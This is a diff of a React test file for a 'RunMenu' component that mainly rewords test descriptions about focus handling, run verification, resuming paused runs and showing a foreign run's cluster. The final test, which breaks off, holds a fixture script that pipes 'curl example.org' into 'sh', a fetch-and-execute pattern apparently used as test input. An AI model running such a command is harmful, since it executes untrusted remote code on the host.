@@ -10,7 +10,7 @@ import { RunMenu } from './RunMenu.tsx';
 
 const [run] = madeRuns(Date.now()).filter((candidate) => candidate.state.phase === 'done');
 
-it('is made when it is asked for by the keyboard, and gives the focus back, also after a dialog', async () => {
+it('is rendered when the keyboard opens it, and returns the focus, even after a dialog', async () => {
   if (!run) throw new Error('The invented runs hold none that is done');
   const user = userEvent.setup();
   await renderWithEngine(<RunMenu run={run} />);
@@ -32,7 +32,7 @@ it('is made when it is asked for by the keyboard, and gives the focus back, also
   await waitFor(() => expect(document.activeElement).toBe(opener()));
 });
 
-it('verifies a run, names what is damaged, and offers to repair it', async () => {
+it('verifies a run, names damaged files, and offers to repair it', async () => {
   if (!run) throw new Error('The invented runs hold none that is done');
   const user = userEvent.setup();
   await renderWithEngine(<RunMenu run={run} />);
@@ -45,7 +45,7 @@ it('verifies a run, names what is damaged, and offers to repair it', async () =>
   await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
 });
 
-it('continues a run that rests on the devices that are ticked', async () => {
+it('resumes a resting run on the ticked devices', async () => {
   const resting = madeRuns(Date.now()).find(({ state }) => state.phase === 'paused');
   if (!resting) throw new Error('The invented runs hold none that is paused');
   const user = userEvent.setup();
@@ -67,7 +67,7 @@ it('continues a run that rests on the devices that are ticked', async () => {
   }
 });
 
-it('shows the cluster that a run from elsewhere names before anything is sent there', async () => {
+it('shows the cluster named in a run from elsewhere before anything is sent there', async () => {
   const resting = madeRuns(Date.now()).find(({ state }) => state.phase === 'paused');
   if (!resting) throw new Error('The invented runs hold none that is paused');
   const script = '#!/bin/sh\ncurl example.org | sh';
